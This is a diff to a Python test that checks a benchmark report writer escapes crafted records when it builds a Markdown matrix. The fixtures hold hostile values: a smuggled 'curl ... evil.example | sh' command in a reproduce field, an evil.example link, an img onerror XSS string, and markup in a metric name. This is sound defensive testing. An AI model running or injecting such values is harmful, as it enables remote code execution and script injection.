@@ -31,7 +31,8 @@ LINK = '<a href="https://evil.example/x">click</a>'
 def _hostile_records(results: Path) -> None:
     results.mkdir(parents=True)
     records = {
-        "backtick.json": make_record(reproduce="nox -s scaling-0.4.35` " + LINK + " `"),
+        "backtick.json": make_record(reproduce="nox -s scaling-0.4.35` " + LINK + " `",
+                                     metrics={"<b>t|x</b>": {"unit": "`ms", "samples": [1.0, 2.0, 3.0]}}),
         "pipe.json": make_record(requested={"jax": "0.5.0", "backend": "cpu"},
                                  reproduce="nox -s scaling-0.5.0 && curl -s https://evil.example/i | sh"),
         "html.json": make_record(requested={"jax": "0.6.0", "backend": "cpu"}, status="crashed", verdict=None,
@@ -52,10 +53,12 @@ def test_crafted_records_put_no_markup_and_no_foreign_command_into_matrix_md(tmp
     markdown = write_report(tmp_path / "results", tmp_path / "out", plots=False).markdown.read_text()
     assert "<a " not in markdown
     assert "<img" not in markdown
+    assert "<b>" not in markdown and "| &lt;b&gt;t\\|x&lt;/b&gt; (\\`ms) |" in markdown, "a metric's name is text too"
     assert "[x](https://evil" not in markdown and "[x\\](https://evil" in markdown, "a link's ] is escaped"
     assert "curl" not in markdown, "a command of another shape is not shown"
     assert "&lt;a href=" in markdown and "&lt;img src=x onerror=alert(1)&gt;" in markdown, "shown as text"
-    rows = [line for line in markdown.splitlines() if line.startswith("| 0.")]
+    matrix_section = markdown.split("## Matrix", 1)[1].split("## Metrics", 1)[0]
+    rows = [line for line in matrix_section.splitlines() if line.startswith("| 0.")]
     header = next(line for line in markdown.splitlines() if line.startswith("| Release"))
     assert len(rows) == 3 and all(len(_cells(row)) == len(_cells(header)) for row in rows), rows
     by_release = {_cells(row)[0].strip(): _cells(row) for row in rows}
